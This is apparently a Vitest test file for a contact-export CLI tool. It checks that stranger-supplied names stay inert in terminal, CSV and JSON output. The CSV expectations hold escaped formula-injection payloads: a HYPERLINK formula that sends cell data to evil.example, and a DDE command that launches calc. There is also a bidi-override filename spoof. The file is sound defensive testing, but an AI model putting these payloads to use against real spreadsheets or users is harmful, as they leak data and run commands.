import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { fixture, netprune } from '../helpers/exec.js';

const hostile = fixture('exports/hostile');
// Anything but SGR colour codes (ESC [ … m) would let a name drive the terminal.
const NOT_SGR = /\u001b(?!\[[0-9;]*m)|[\u0000-\u0008\u000b-\u001a\u001c-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('names and positions written by strangers stay text', () => {
  it('audit in a terminal: no escape sequence, control character or bidi override gets through', async () => {
    const plain = await netprune(['audit', hostile], { env: { NO_COLOR: '1' } });
    expect(plain.code).toBe(0);
    expect(plain.stdout).toMatch(/Ada Quill/);
    expect(plain.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    const coloured = await netprune(['audit', hostile], { env: { FORCE_COLOR: '1' } });
    expect(coloured.stdout).not.toMatch(NOT_SGR);
  });

  it('explain too', async () => {
    const run = await netprune(['explain', hostile, 'https://www.linkedin.com/in/bo-link'], { env: { FORCE_COLOR: '1' } });
    expect(run.code).toBe(0);
    expect(run.stdout).not.toMatch(NOT_SGR);
    expect(run.stdout).toMatch(/Bo Link/);
  });

  it('--format csv neutralises formulas and strips escapes, and parses back', async () => {
    const run = await netprune(['audit', hostile, '--format', 'csv']);
    expect(run.stdout).not.toMatch(/\u001b/);
    const rows = parse(run.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r['company'])).toEqual([
      `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
      `'+cmd|' /C calc'!A0`,
      `'@SUM(1+1)`,
      `'-2+3`,
      'Tabbed Co',
    ]);
    expect(rows.every((r) => Object.values(r).every((v) => !/^[=+\-@\t\r]/.test(v)))).toBe(true);
  });

  it('--json keeps the data exact but escapes C1 controls and bidi overrides', async () => {
    const run = await netprune(['audit', hostile, '--json']);
    expect(run.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    const report = JSON.parse(run.stdout) as { contacts: { lastName: string }[] };
    expect(report.contacts.map((c) => c.lastName)).toContain('Reverse\u202Efdp.exe');
  });
});
